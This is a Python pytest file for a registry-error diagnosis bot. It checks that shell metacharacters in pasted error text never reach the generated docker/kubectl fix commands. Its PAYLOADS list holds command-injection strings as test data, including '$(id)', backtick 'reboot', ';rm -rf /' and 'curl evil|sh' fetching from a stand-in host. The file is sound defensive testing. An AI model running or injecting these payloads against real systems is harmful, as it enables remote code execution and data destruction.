"""Values from a paste go into shell commands only when they have a safe shape."""

import pytest

from bot.diagnose import diagnose
from bot.engine.render_text import render_text, self_check_command

PAYLOADS = [
    'Get "https://x$({curl,-s,evil.example}|sh).azurecr.io/v2/": dial tcp: lookup x$(id).azurecr.io on 10.0.0.2:53: no such host',
    "denied: client with IP '1.2.3.4;rm -rf /' is not allowed access (myreg.azurecr.io)",
    "Get https://`reboot`.azurecr.io/v2/: proxyconnect tcp: dial tcp evil`id`.corp:3128: connect: refused",
    "dial tcp: lookup my'reg.azurecr.io on 10.0.0.2:53: server misbehaving",
    'HTTPS_PROXY="http://p.corp:3128;curl evil|sh"\nGet https://myreg.azurecr.io/v2/: proxyconnect tcp: EOF',
    # another registry's fix (fix_elsewhere) fills {host} into docker/kubectl commands
    "docker push harbor`id`.corp:8443/team/api:1 -> unauthorized: authentication required",
    "pull access denied for evil$(id)/x;rm, repository does not exist or may require 'docker login'",
    'Failed to pull image "ghcr.io;curl evil|sh/acme/api:1": failed to fetch anonymous token: unexpected status: 401 Unauthorized',
    # an undecided failure at another registry: the deciding check (decide_elsewhere) fills {host} too
    'docker login harbor$(id).internal\nError response from daemon: Get "https://harbor`id`.internal/v2/": dial tcp: '
    "lookup harbor`id`.internal on 10.0.0.2:53: no such host",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_shell_metacharacters_reach_commands(text: str) -> None:
    d = diagnose(text)
    commands = [s.command or "" for s in d.fix] + [self_check_command(d) or ""]
    if d.decisive_check is not None:
        commands.append(d.decisive_check.command or "")
    for command in commands:
        for bad in ("$(id", "$({curl", "`", ";rm", "|sh", ";curl", "'1.2.3.4;"):
            assert bad not in command, (bad, command)
    assert "$(id)" not in render_text(d)
